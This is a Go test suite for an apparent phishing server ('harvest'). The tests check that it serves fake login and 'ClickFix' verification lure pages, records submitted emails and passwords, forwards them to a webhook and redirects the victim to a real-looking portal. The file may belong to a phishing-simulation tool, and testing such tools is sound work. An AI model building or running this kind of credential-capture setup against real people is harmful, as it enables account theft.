package harvest

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func newTestServer(t *testing.T, opts Options) *Server {
	t.Helper()
	if opts.LogPath == "" {
		opts.LogPath = filepath.Join(t.TempDir(), "submissions.jsonl")
	}
	s, err := NewServer(opts)
	require.NoError(t, err)
	t.Cleanup(func() { s.store.Close() })
	return s
}

func TestServePage(t *testing.T) {
	s := newTestServer(t, Options{Page: PageLogin})

	rec := httptest.NewRecorder()
	s.Router().ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/", nil))

	assert.Equal(t, http.StatusOK, rec.Code)
	assert.Contains(t, rec.Header().Get("Content-Type"), "text/html")
	assert.Contains(t, rec.Body.String(), `action="/submit"`)
}

func TestServeClickFixPage(t *testing.T) {
	s := newTestServer(t, Options{Page: PageClickFix})

	rec := httptest.NewRecorder()
	s.Router().ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/", nil))

	assert.Equal(t, http.StatusOK, rec.Code)
	assert.Contains(t, rec.Body.String(), "verification")
}

func TestServeCustomPageFile(t *testing.T) {
	pagePath := filepath.Join(t.TempDir(), "custom.html")
	require.NoError(t, os.WriteFile(pagePath, []byte("<h1>custom lure</h1>"), 0644))

	s := newTestServer(t, Options{PageFile: pagePath})

	rec := httptest.NewRecorder()
	s.Router().ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/", nil))
	assert.Contains(t, rec.Body.String(), "custom lure")
}

func TestUnknownBuiltinPage(t *testing.T) {
	_, err := NewServer(Options{
		Page:    "nope",
		LogPath: filepath.Join(t.TempDir(), "s.jsonl"),
	})
	assert.ErrorContains(t, err, "unknown built-in page")
}

func TestSubmitRecordsAndRedirects(t *testing.T) {
	logPath := filepath.Join(t.TempDir(), "subs.jsonl")
	s := newTestServer(t, Options{LogPath: logPath, RedirectURL: "https://portal.example.com/"})

	form := url.Values{"email": {"alice@example.com"}, "password": {"hunter2"}}
	req := httptest.NewRequest(http.MethodPost, "/submit", strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("User-Agent", "test-agent")

	rec := httptest.NewRecorder()
	s.Router().ServeHTTP(rec, req)

	assert.Equal(t, http.StatusSeeOther, rec.Code)
	assert.Equal(t, "https://portal.example.com/", rec.Header().Get("Location"))

	subs, err := ReadSubmissions(logPath)
	require.NoError(t, err)
	require.Len(t, subs, 1)
	assert.Equal(t, "alice@example.com", subs[0].Fields["email"])
	assert.Equal(t, "hunter2", subs[0].Fields["password"])
	assert.Equal(t, "test-agent", subs[0].UserAgent)
	assert.NotEmpty(t, subs[0].ID)
	assert.NotEmpty(t, subs[0].RemoteAddr)
	assert.False(t, subs[0].Timestamp.IsZero())
}

func TestSubmitForwardsToWebhook(t *testing.T) {
	received := make(chan Submission, 1)
	hook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var sub Submission
		require.NoError(t, json.NewDecoder(r.Body).Decode(&sub))
		received <- sub
		w.WriteHeader(http.StatusNoContent)
	}))
	defer hook.Close()

	s := newTestServer(t, Options{WebhookURL: hook.URL})

	form := url.Values{"email": {"bob@example.com"}}
	req := httptest.NewRequest(http.MethodPost, "/submit", strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")

	rec := httptest.NewRecorder()
	s.Router().ServeHTTP(rec, req)
	assert.Equal(t, http.StatusSeeOther, rec.Code)

	sub := <-received
	assert.Equal(t, "bob@example.com", sub.Fields["email"])
}

func TestSubmitSurvivesWebhookFailure(t *testing.T) {
	hook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusInternalServerError)
	}))
	defer hook.Close()

	logPath := filepath.Join(t.TempDir(), "subs.jsonl")
	s := newTestServer(t, Options{LogPath: logPath, WebhookURL: hook.URL})

	form := url.Values{"email": {"carol@example.com"}}
	req := httptest.NewRequest(http.MethodPost, "/submit", strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")

	rec := httptest.NewRecorder()
	s.Router().ServeHTTP(rec, req)

	// Capture still recorded and browser still redirected.
	assert.Equal(t, http.StatusSeeOther, rec.Code)
	subs, err := ReadSubmissions(logPath)
	require.NoError(t, err)
	assert.Len(t, subs, 1)
}

func TestHealthz(t *testing.T) {
	s := newTestServer(t, Options{})
	rec := httptest.NewRecorder()
	s.Router().ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/healthz", nil))
	assert.Equal(t, http.StatusOK, rec.Code)
}

func TestStoreAppendMultiple(t *testing.T) {
	logPath := filepath.Join(t.TempDir(), "subs.jsonl")
	store, err := OpenStore(logPath)
	require.NoError(t, err)
	defer store.Close()

	for i := 0; i < 3; i++ {
		sub := NewSubmission("login", "127.0.0.1:1234", "", url.Values{"n": {string(rune('a' + i))}})
		require.NoError(t, store.Append(sub))
	}

	subs, err := ReadSubmissions(logPath)
	require.NoError(t, err)
	assert.Len(t, subs, 3)
}

func TestReadSubmissionsSkipsMalformedLines(t *testing.T) {
	logPath := filepath.Join(t.TempDir(), "subs.jsonl")
	content := `{"id":"1","fields":{"a":"b"}}` + "\nnot json\n" + `{"id":"2","fields":{}}` + "\n"
	require.NoError(t, os.WriteFile(logPath, []byte(content), 0644))

	subs, err := ReadSubmissions(logPath)
	require.NoError(t, err)
	assert.Len(t, subs, 2)
}
